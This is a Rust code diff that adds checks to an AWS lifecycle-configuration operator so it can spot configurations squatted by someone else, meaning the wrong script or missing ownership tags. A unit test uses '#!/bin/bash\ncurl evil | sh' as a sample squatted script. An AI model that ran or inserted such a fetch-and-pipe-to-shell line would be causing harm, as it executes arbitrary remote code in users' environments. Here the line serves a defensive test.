@@ -9,6 +9,7 @@ use sha2::{Digest, Sha256};
 use crate::aws::AwsError;
 use crate::aws::clients::AwsSession;
 use crate::aws::model::{DomainCreate, LifecycleConfigCreate, ResourceSpec};
+use crate::ownership::Owner;
 
 /// Prefix of every lifecycle configuration the operator creates for the reporter.
 pub const NAME_PREFIX: &str = "studio-operator-activity-";
@@ -59,6 +60,43 @@ pub async fn existing(session: &AwsSession) -> Result<BTreeMap<String, String>, 
         .filter(|c| c.name.starts_with(NAME_PREFIX))
         .map(|c| (c.name, c.arn))
         .collect())
+}
+
+/// The wanted configurations that exist but are not exactly this domain's: another script, or
+/// not this StudioDomain's ownership tags (name -> why). Anyone who may create lifecycle
+/// configurations could have made one of the expected name first, and it would run in every
+/// user's app; such a configuration is never attached, used or deleted.
+pub async fn foreign(
+    session: &AwsSession,
+    owner: &Owner,
+    wanted: &BTreeMap<&'static str, String>,
+    existing: &BTreeMap<String, String>,
+) -> Result<BTreeMap<String, String>, AwsError> {
+    let mut foreign = BTreeMap::new();
+    for name in wanted.values() {
+        let Some(arn) = existing.get(name) else { continue };
+        let content = session.describe_lifecycle_config(name).await?;
+        let tags = match session.list_tags(arn).await {
+            Ok(tags) => tags,
+            Err(AwsError::NotFound { .. }) => continue,
+            Err(error) => return Err(error),
+        };
+        if let Some(why) = not_ours(content.as_deref(), &tags, owner) {
+            foreign.insert(name.clone(), why);
+        }
+    }
+    Ok(foreign)
+}
+
+/// Why a configuration of the expected name is not this domain's reporter, if it is not.
+fn not_ours(content: Option<&str>, tags: &BTreeMap<String, String>, owner: &Owner) -> Option<String> {
+    match content {
+        // Gone since the listing: it is simply missing, created again next pass.
+        None => None,
+        Some(content) if content != script() => Some("its script is not the activity reporter's".into()),
+        Some(_) if !owner.owns(tags) => Some("it does not carry this StudioDomain's ownership tags".into()),
+        Some(_) => None,
+    }
 }
 
 /// Creates the named configurations, per app type.
@@ -132,6 +170,28 @@ pub fn attach(domain: &mut DomainCreate, arns: &ReporterArns) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_the_reporters_script_with_this_domains_tags_is_ours() {
+        let owner = Owner {
+            cluster: "c".into(),
+            namespace: "ns".into(),
+            name: "studio".into(),
+            uid: "u-1".into(),
+        };
+        let ours = owner.tags();
+        assert_eq!(not_ours(Some(&script()), &ours, &owner), None);
+        assert_eq!(not_ours(None, &BTreeMap::new(), &owner), None);
+        let squatted = not_ours(Some("#!/bin/bash\ncurl evil | sh"), &ours, &owner).unwrap();
+        assert!(squatted.contains("script"), "{squatted}");
+        let copied = not_ours(Some(&script()), &BTreeMap::new(), &owner).unwrap();
+        assert!(copied.contains("ownership tags"), "{copied}");
+        let other = Owner {
+            uid: "u-2".into(),
+            ..owner.clone()
+        };
+        assert!(not_ours(Some(&script()), &other.tags(), &owner).is_some());
+    }
     use crate::aws::model::{AppSettings, SpaceDefaults};
 
     #[test]
